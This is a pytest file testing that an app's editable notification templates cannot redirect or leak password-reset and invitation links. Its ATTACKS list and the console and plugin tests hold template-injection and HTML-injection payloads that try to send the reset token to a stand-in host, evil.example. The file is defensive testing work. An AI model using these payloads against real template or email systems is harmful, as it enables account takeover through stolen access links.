"""An account-access link (a password link, an invitation) stays out of the business's hands: core places it
in a fixed block between the business's own text, and no edit of the template can send it anywhere else."""

import random
from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from core.models import NotificationTemplate, OutboxMessage
from core.notifications import templates
from core.notifications.outbox import deliver_due, enqueue
from core.notifications.templates import Wording, render, validate, variables
from core.plugin_api import register_template
from core.testing.helpers import create_staff, login_staff, submit_form

LINK = "http://suprata.test/b/acme/console/set-password/Zq3vT0kenThatOnlyCoreKnows"
TOKEN = LINK.rsplit("/", 1)[1]
RESET = {"staff_name": "Sam Lee", "set_password_url": LINK, "expires_at": "2026-07-02T16:04:00+00:00"}

# What a business (or anyone with its console login) might write to get the link sent elsewhere.
ATTACKS = [
    "https://evil.example/r?u={{ set_password_url }}",
    "{{ set_password_url|replace('suprata.test', 'evil.example') }}",
    "<a href='https://evil.example/?u=",
    '<a href="https://evil.example/?u=',
    "<a href=https://evil.example/?u=",
    '<a href="https://evil.example/">',
    "<!--",
    "<![CDATA[",
    '<div style="display:none">',
    '<form action="https://evil.example/">',
    '<base href="https://evil.example/">',
    '<img src="https://evil.example/?u=',
    '<iframe srcdoc="',
    "<textarea>", "<xmp>", "<plaintext>", "<noscript>", "<style>", "<script>", "<title>", "<table><tr><td>",
    "{% raw %}", "{{ self }}", "{{ context }}", "{{ business }}", "{% if true %}",
    "Go to https://evil.example/?u=", "https://evil.example/?u=\r", "\\", "'", '"', "<", "</td></tr></table>",
]
PLAIN = ["Hello {{ staff_name }},", "", "\n", "<p>Hi</p>", "<b>", "</p>", "{{ expires_at|datetime }}"]


class Occurrences(HTMLParser):
    """Where the token appears in an HTML document: in which attribute or text, under which open elements."""

    VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track",
            "wbr"}

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.found: list[tuple] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if value and TOKEN in value:
                self.found.append((tuple(self.stack), tag, name, value))
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag):
        if tag in self.stack:
            while self.stack.pop() != tag:
                pass

    def handle_data(self, data):
        if TOKEN in data:
            self.found.append((tuple(self.stack), "text", None, data.strip()))

    def handle_comment(self, data):
        assert TOKEN not in data, "the link ended up inside a comment"


def assert_only_the_link_core_built(text: str, html: str, expected_html_places: list[tuple]) -> None:
    lines = text.splitlines()
    assert lines.count(LINK) == 1, "the link is on a line of its own"
    assert [line for line in lines if TOKEN in line] == [LINK], "the token appears nowhere else"
    places = Occurrences(html).found
    assert places == expected_html_places, "in HTML the link sits only where core puts it, as core wrote it"
    assert all(value == LINK for _, _, _, value in places)


@pytest.fixture
def core_places(app, business, in_business):
    """Where the default wording's HTML has the link: the places every edit must leave as they are."""
    with in_business(business), app.test_request_context():
        message, _ = render("staff_password_reset", RESET)
    places = Occurrences(message.html).found
    kinds = [(tag, attribute) for _, tag, attribute, _ in places]
    assert kinds == [("a", "href"), ("a", "href"), ("text", None)]
    return places


def store(db, key, wording: Wording) -> None:
    """The business's own wording, written straight to the database: no form check stands in the way."""
    db.session.query(NotificationTemplate).delete()
    db.session.add(NotificationTemplate(key=key, subject=wording.subject, body_text=wording.text,
                                        body_text_after=wording.text_after))
    db.session.commit()


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_edit_sends_the_password_link_elsewhere(app, db, business, in_business, mailbox, core_places,
                                                    attack):
    with in_business(business):
        store(db, "staff_password_reset", Wording(subject=f"Reset {attack}", text=f"Hello <p>{attack}",
                                                  text_after=f"{attack}\n\n[Bye]({attack})"))
        enqueue("staff_password_reset", to="sam@acme.test", context=RESET)
        db.session.commit()
    with app.app_context():
        assert deliver_due() == 1

    [email] = mailbox.wait_for(1)
    assert TOKEN not in email["Subject"]
    assert_only_the_link_core_built(mailbox.text_of(email), mailbox.html_of(email), core_places)


def test_random_edits_never_move_or_change_the_link(app, db, business, in_business, core_places):
    pieces = ATTACKS + PLAIN
    chance = random.Random(20261208)
    with in_business(business), app.test_request_context():
        for _ in range(300):
            subject, text, text_after = ("".join(chance.choices(pieces, k=chance.randint(0, 4)))
                                         for _ in range(3))
            store(db, "staff_password_reset", Wording(subject, text, text_after=text_after))
            message, _ = render("staff_password_reset", RESET)
            assert_only_the_link_core_built(message.text, message.html, core_places)
            db.session.rollback()


def test_the_business_text_sits_around_the_fixed_link(app, db, business, in_business, mailbox):
    with in_business(business):
        store(db, "staff_password_reset", Wording("New password", text="Hi {{ staff_name }}, here it is:",
                                                  text_after="Thanks, the {{ business.name }} team"))
        enqueue("staff_password_reset", to="sam@acme.test", context=RESET)
        db.session.commit()
    with app.app_context():
        deliver_due()

    [email] = mailbox.wait_for(1)
    assert mailbox.text_of(email).splitlines() == [
        "Hi Sam Lee, here it is:", "", "Choose a new password:", LINK, "", "Thanks, the Acme Plumbing team"]
    html = mailbox.html_of(email)
    assert html.index("here it is:") < html.index(f'href="{LINK}" class="button">Choose a new password<')
    assert html.index(LINK) < html.index("Thanks, the Acme Plumbing team")


@pytest.mark.parametrize(("key", "variable"), [("staff_password_reset", "set_password_url"),
                                               ("staff_invitation", "set_password_url"),
                                               ("portal_invitation", "invite_url")])
def test_the_editor_never_offers_the_link_and_refuses_it_saying_why(key, variable):
    assert variable not in variables(key)
    [problem] = validate(Wording("Hi", f"Go: {{{{ {variable} }}}}"), key=key)
    assert problem == (f"Text: remove {variable}. The link it holds is placed by Suprata itself, between "
                       "your text above and below it, and cannot be moved.")


def test_staff_edit_the_words_around_the_link_in_the_console(app, db, client, business, in_business, mailbox):
    create_staff(app, business)
    login_staff(client, business)
    editor = "/b/acme/console/settings/notifications/staff_password_reset"
    page = client.get(editor).get_data(as_text=True)
    assert 'id="fixed-link"' in page and "Choose a new password" in page and "set_password_url" not in page

    refused = submit_form(client, editor, {"text": "Go to https://evil.example/?u={{ set_password_url }}",
                                           "save": "Save"})
    assert refused.status_code == 400 and "remove set_password_url" in refused.get_data(as_text=True)

    saved = submit_form(client, editor, {"subject": "", "text": "Hey {{ staff_name }}!",
                                         "text_after": "See you soon.", "save": "Save"})
    assert saved.status_code == 302
    with in_business(business):
        enqueue("staff_password_reset", to="sam@acme.test", context=RESET)
        db.session.commit()
    with app.app_context():
        deliver_due()
    [email] = mailbox.wait_for(1)
    assert mailbox.text_of(email).splitlines() == ["Hey Sam Lee!", "", "Choose a new password:", LINK, "",
                                                   "See you soon."]


def test_a_plugin_marks_its_own_template_as_carrying_an_account_link(
        app, db, business, in_business, mailbox, monkeypatch):
    monkeypatch.setattr(templates, "_defaults", dict(templates._defaults))
    register_template("helpdesk_confirm_email", subject="Confirm your email",
                      text="Please confirm {{ email }} to send your request.",
                      text_after="The link expires in a day.", access_link="confirm_url",
                      access_label="Confirm my email", sample={"email": "jo@example.com",
                                                               "confirm_url": "https://help.example.com/c/x"})
    with in_business(business):
        store(db, "helpdesk_confirm_email", Wording("Hi", '<a href="https://evil.example/?u=', None,
                                                    "{{ confirm_url }}"))
        enqueue("helpdesk_confirm_email", to="jo@example.com", context={"email": "jo@example.com",
                                                                         "confirm_url": LINK})
        db.session.commit()
    with app.app_context():
        deliver_due()

    [email] = mailbox.wait_for(1)
    lines = mailbox.text_of(email).splitlines()
    assert lines[lines.index(LINK) - 1] == "Confirm my email:"
    assert [line for line in lines if TOKEN in line] == [LINK]
    with in_business(business):
        message = db.session.scalar(select(OutboxMessage))
        assert "'confirm_url' is undefined" in message.template_error  # the business's version fell back
